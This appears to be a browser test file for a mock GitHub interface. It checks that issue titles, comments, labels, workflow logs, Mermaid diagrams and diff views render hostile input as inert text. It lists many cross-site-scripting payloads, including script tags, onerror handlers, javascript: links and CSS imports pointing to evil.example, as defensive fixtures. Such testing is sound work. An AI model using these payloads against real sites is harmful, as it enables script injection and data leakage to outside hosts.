import * as fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { renderMarkdown } from '../../../src/playground/github/pages/markdown.ts';
import { canBrowse } from '../../../tools/browser.ts';
import { aHistory } from '../../build/a-history.ts';
import { fuzzRuns, sampleSeed } from '../../build/fuzz-runs.ts';
import { HOSTILE_PARTS } from '../../build/rendered.ts';
import { type Place, startPlace } from './asking.ts';
import { useBrowser } from './visiting.ts';

/** Each would show a dialog, or send a request to another host, if it were more than text. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/x.png">',
  '![x](https://evil.example/x.png "t")',
  '[![x](//evil.example/x.png)](javascript:alert(1))',
  '<picture><source srcset="https://evil.example/y.png"><img src="/x"></picture>',
  '<a href="javascript:alert(1)">a</a> [b](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)>',
  '<p style="background: url(https://evil.example/z.png)" onclick="alert(1)">a</p>',
  '<style>@import url(https://evil.example/z.css); body { display: none }</style>',
  '<link rel=stylesheet href=https://evil.example/z.css><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg onload=alert(1)><image href="https://evil.example/s.png"/><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<video poster=https://evil.example/v.png src=https://evil.example/v.mp4 autoplay onerror=alert(1)></video>',
  '<object data=https://evil.example></object><embed src=https://evil.example><base href=https://evil.example>',
  '<form action=https://evil.example><button autofocus onfocus=alert(1)>a</button></form>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</title></textarea></style></script></pre></code></table><script>alert(1)</script>',
  '${alert(1)} {{alert(1)}}',
  '<div id="connection"><main id="head"></main></div>',
];

/** Diagrams that Mermaid might draw; diagrams that it refuses stay text. */
const DIAGRAMS = [
  'flowchart LR\n  A["<img src=x onerror=alert(1)>"] --> B["<script>alert(1)</script>"]',
  'flowchart LR\n  A --> B\n  click A href "javascript:alert(1)"\n  click B call alert(1)',
  '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\nflowchart LR\n  A["<iframe src=https://evil.example></iframe>"]',
  '%%{init: {"themeCSS": "@import url(https://evil.example/a.css); * { background: url(https://evil.example/b.png) }"}}%%\nflowchart LR\n  A',
  'flowchart LR\n  A@{ img: "https://evil.example/c.png", label: "x" }',
  'flowchart LR\n  A\n  style A fill:url(https://evil.example/d.svg#x)',
  '%%{init: {"fontFamily": "x; } @font-face { src: url(https://evil.example/f.woff) }"}}%%\nsequenceDiagram\n  A->>B: <b onclick=alert(1)>hi</b>',
];
const fenced = (diagram: string): string => `\`\`\`mermaid\n${diagram}\n\`\`\``;

/** What is never in a comment, outside of diagrams that Mermaid has drawn. */
const FORBIDDEN =
  'script, style, link, meta, base, iframe, object, embed, svg, math, img, picture, source, video, form, button';
const ACTING =
  '[onclick], [onerror], [onload], [onfocus], [style], [src], [srcset], [href^="javascript" i], [href^="data" i]';

describe.skipIf(!canBrowse)('a page full of hostile text in a browser (needs chromium)', () => {
  let place: Place;
  beforeEach(async () => {
    place = await startPlace();
  });
  afterEach(() => place.github.stop());
  const visit = useBrowser();

  const comment = (body: string, author = 'mara') => place.github.state.addComment(place.app, 1, { author, body });
  const open = async (path = '/acme/app/issues/1') => (await visit(place.github.url + path)).page;

  test('runs nothing and sends no request to other hosts, wherever an attack is', async () => {
    const { state } = place.github;
    for (const attack of ATTACKS) {
      const thread = state.addThread(place.app, { author: attack, title: attack, body: attack });
      thread.labels = [
        state.label(place.app, attack, { color: 'red;background:url(//evil.example)', description: attack }).name,
      ];
      place.issue.labels.push(...thread.labels);
      const { id } = comment(attack, attack);
      state.react(place.app, `comment/${id}`, { account: state.account(attack), content: 'eyes' });
    }
    place.issue.title = ATTACKS.join(' ');
    const page = await open();
    expect(await page.getByRole('heading', { level: 1 }).innerText()).toBe(`${ATTACKS.join(' ')} #1`);
    const labels = page.getByRole('list', { name: 'Labels' }).locator('li');
    expect(await labels.allInnerTexts()).toEqual(ATTACKS.map((attack) => attack.trim()));
    expect(await page.locator('article').count()).toBe(ATTACKS.length + 1);
    expect(await page.locator('.markdown-body').locator(FORBIDDEN).count()).toBe(0);
    expect(await page.locator('a[href^="javascript" i]').count()).toBe(0);
    expect(await page.locator('#connection').innerText()).toBe('Updates automatically.');
    // The list shows all titles, authors and labels again.
    await page.goto(`${place.github.url}/acme/app`);
    expect(await page.locator('.rows .title').allInnerTexts()).toContain(ATTACKS[0]);
  });

  test('shows a hostile run as text: its log, outputs, summary and event', async () => {
    const all = ATTACKS.join('\n');
    const { state } = place.github;
    const cause = { what: 'comment', title: all, path: '/acme/app/issues/1' } as const;
    const run = state.addRun(place.app, { workflow: all, event: all, actor: all, cause, reason: all });
    run.steps.push({ name: all, log: `::group::${ATTACKS[0]}\n${all}\n::endgroup::\n${all}`, exitCode: 0 });
    Object.assign(run, { summary: all, outputs: new Map(ATTACKS.map((attack) => [attack, attack])) });
    const page = await open(`/acme/app/actions/runs/${run.id}`);
    expect(await page.locator('.log > p').allInnerTexts()).toEqual(
      expect.arrayContaining(['<div id="connection"><main id="head"></main></div>']),
    );
    expect(await page.locator('main').locator('script, iframe, img, form, style').count()).toBe(0);
    await page.goto(`${place.github.url}/acme/app/actions`);
    expect(await page.locator('.rows .title').innerText()).toContain('<script>');
  });

  test('draws hostile diagrams or leaves them as text, but runs nothing and sends no request to other hosts', async () => {
    const safe = fenced('flowchart LR\n  A --> B');
    for (const diagram of [...DIAGRAMS.map(fenced), safe]) comment(diagram);
    const page = await open();
    // They are drawn one after the other: after the last, nothing is still running.
    await page.locator('article').last().locator('.diagram svg').waitFor();
    for (const node of await page.locator('.diagram .node').all()) await node.click({ force: true });
    expect(await page.locator('.diagram').locator('script, iframe').count()).toBe(0);
    expect(await page.locator('body').isVisible()).toBe(true);
    expect(page.url()).toBe(`${place.github.url}/acme/app/issues/1`);
  });

  test('lets nothing through that runs or fetches, whatever parts a text consists of', async () => {
    const part = fc.oneof(fc.constantFrom(...HOSTILE_PARTS, ...ATTACKS), fc.string({ maxLength: 5 }));
    const seed = sampleSeed();
    const drawn = fc.sample(fc.array(part, { maxLength: 8 }), { numRuns: fuzzRuns(400), seed });
    const texts = drawn.map((parts) => parts.join(''));
    // Without the policy of our own pages: the texts alone must be harmless.
    const { page } = await visit('about:blank');
    await page.setContent(texts.map((text) => `<section>${renderMarkdown(text)}</section>`).join(''));
    expect(await page.locator('body > section').count()).toBe(texts.length);
    expect(await page.locator(FORBIDDEN).count(), `seed ${seed}`).toBe(0);
    expect(await page.locator(ACTING).count(), `seed ${seed}`).toBe(0);
  });

  test('shows the changes of a pull request and its review comments as text', async () => {
    const name = '<img src=x onerror=alert(1)>.md';
    const lines = ATTACKS.filter((attack) => !attack.includes('\n'));
    await using history = await aHistory([
      { message: 'Begin', files: { 'a.md': 'one\ntwo\n' } },
      { message: 'Change', branch: 'change', files: { 'a.md': `one\n${lines.join('\n')}\n`, [name]: 'new\n' } },
    ]);
    await place.github.stop();
    place = await startPlace({ gitDir: history.gitDir });
    await place.ask('POST', '/pulls', { body: { title: 'Change', head: 'change', base: 'main' } });
    const hunk = ['@@ -1,2 +1,9 @@', ' one', '-two', ...lines.map((line) => `+${line}`)].join('\n');
    const asked = { author: 'mara', body: 'Is\nthis right?', ...{ path: ATTACKS[2] ?? '', line: 9, diffHunk: hunk } };
    const { id } = place.github.state.addReviewComment(place.app, 2, asked);
    const page = await open('/acme/app/pull/2');
    const review = page.locator(`#discussion_r${id}`);
    expect(await review.locator('.place p').innerText()).toBe(`${ATTACKS[2]} line 9`);
    expect(await review.locator('.line').allInnerTexts()).toEqual(['@@ -1,2 +1,9 @@', ...lines.slice(-4)]);
    expect(await review.locator('.markdown-body').innerText()).toBe('Is\nthis right?');
    const files = page.locator('.file');
    expect(await files.locator('summary').allInnerTexts()).toEqual([`${name} +1 −0`, `a.md +${lines.length} −1`]);
    expect(await files.last().locator('.addition .line').allInnerTexts()).toEqual(lines);
    expect(await files.last().locator('.deletion').innerText()).toMatch(/^2\s+−\s+two$/);
  });

  test('shows the longest and deepest texts, and the right order next to right-to-left text', async () => {
    const long = 'word '.repeat(13_107).trim();
    const deep = '> '.repeat(2_000).concat('below');
    const wide = fenced(`flowchart LR\n${'A --> B\n'.repeat(8_000)}`);
    for (const body of [long, deep, `${'<div>'.repeat(13_000)}end`, wide]) comment(body);
    place.issue.title = '\u202Eabc \u0627\u0644\u0639\u0631\u0628\u064A\u0629';
    const page = await open();
    const bodies = page.locator('article .markdown-body');
    expect(await bodies.first().innerText()).toBe(long);
    expect(await bodies.nth(1).innerText()).toContain('below');
    expect(await bodies.nth(2).innerText()).toContain('end');
    expect(await bodies.nth(3).innerText()).toContain('A --> B');
    const [title, number] = await Promise.all(
      ['.title', '.number'].map((part) => page.locator(`h1 ${part}`).boundingBox()),
    );
    expect(number?.x).toBeGreaterThan((title?.x ?? 0) + (title?.width ?? 0));
  });
});
